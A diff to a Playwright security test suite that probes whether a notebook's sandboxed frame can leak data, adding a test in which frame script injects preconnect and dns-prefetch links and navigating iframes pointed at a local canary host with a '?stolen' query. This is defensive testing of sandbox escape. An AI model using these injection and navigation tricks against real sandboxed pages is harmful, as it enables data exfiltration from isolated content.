@@ -1,4 +1,7 @@
 // The sealed frame under attack from inside, as a notebook's own script can attack it; and what is in sight of a person.
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import type { FrameLocator, Page } from '@playwright/test'
 import { type Canary, startCanary } from './canary.ts'
 import { edit, expect, inside, notebookOf, openNotebook, output, runAll, signIn, test } from './fixtures.ts'
@@ -27,7 +30,7 @@ test('nothing a notebook’s script tries leaves the frame', async ({ person, cl
   const results: Record<string, string> = JSON.parse((await report.textContent()) ?? '')
   expect(Object.keys(results).length).toBeGreaterThan(55)
   for (const [attempt, result] of Object.entries(results)) expect.soft(result, attempt).toMatch(/^(refused|silence)/)
-  expect([canary.heard, canary.connections()]).toEqual([[], 0])
+  expect(canary.heard).toEqual([])
   expect(page.context().pages()).toHaveLength(1)
   expect(new URL(page.url()).origin).toBe(stack.origin)
   expect(downloads).toBe(0)
@@ -266,4 +269,54 @@ test('a session of another id does not open from inside the frame: its stream an
       new WebSocket('/terminal/ws').onclose = ({ code }) => done(code)
     })
   expect(await inFrame.evaluate(other)).toBe(1008)
+})
+
+// docs/security.md, “What is left”: what a browser does for a page before its policy is asked, or without asking it.
+test('what is left open to a page: connections to hosts of its choosing; nothing is sent through them', async ({
+  client,
+  stack,
+  playwright,
+  launchOptions,
+}, info) => {
+  const folder = mkdtempSync(join(tmpdir(), 'net-'))
+  const place = await startCanary()
+  const log = join(folder, 'net.json')
+  const alone = '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE *.localhost, EXCLUDE localhost, EXCLUDE 127.0.0.1'
+  const quiet = (launchOptions.args ?? []).filter((flag) => flag !== '--disable-background-networking') // it takes hints away
+  const browser = await playwright.chromium.launch({ ...launchOptions, args: [...quiet, alone, `--log-net-log=${log}`] })
+  try {
+    await (await client('Colleague')).notebook('opens', notebookOf('"here"'))
+    const page = await signIn(await browser.newPage(), stack.origin, 'Colleague')
+    await openNotebook(page, 'opens')
+    const frame = await inside(page, 'opens')
+    const links = (origin: string) => {
+      for (const rel of ['preconnect', 'dns-prefetch'])
+        document.head.append(
+          Object.assign(document.createElement('link'), {
+            rel,
+            href: `${origin.replace('127.0.0.1', `${rel}.localhost`)}/?stolen`,
+          }),
+        )
+      document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: `${origin}/?stolen` }))
+    }
+    await frame.evaluate(links, place.origin)
+    const navigates = (origin: string) => {
+      for (const to of [origin, origin.replace('127.0.0.1', 'navigation.localhost')]) {
+        const srcdoc = `<script>location = '${to}/?stolen'</scr` + 'ipt>'
+        document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }))
+        document.body.append(Object.assign(document.createElement('iframe'), { src: `${to}/?stolen` }))
+      }
+    }
+    await frame.evaluate(navigates, place.origin)
+    await expect.poll(() => place.connections()).toBeGreaterThan(0)
+    await browser.close()
+    const written = readFileSync(log, 'utf8')
+    const named = ['preconnect', 'dns-prefetch', 'navigation'].filter((name) => written.includes(`${name}.localhost`))
+    info.annotations.push({ type: 'left open', description: `${place.connections()} connections; names by ${named.join(', ')}` })
+    expect(place.heard).toEqual([])
+  } finally {
+    await browser.close()
+    place.stop()
+    rmSync(folder, { recursive: true, force: true })
+  }
 })
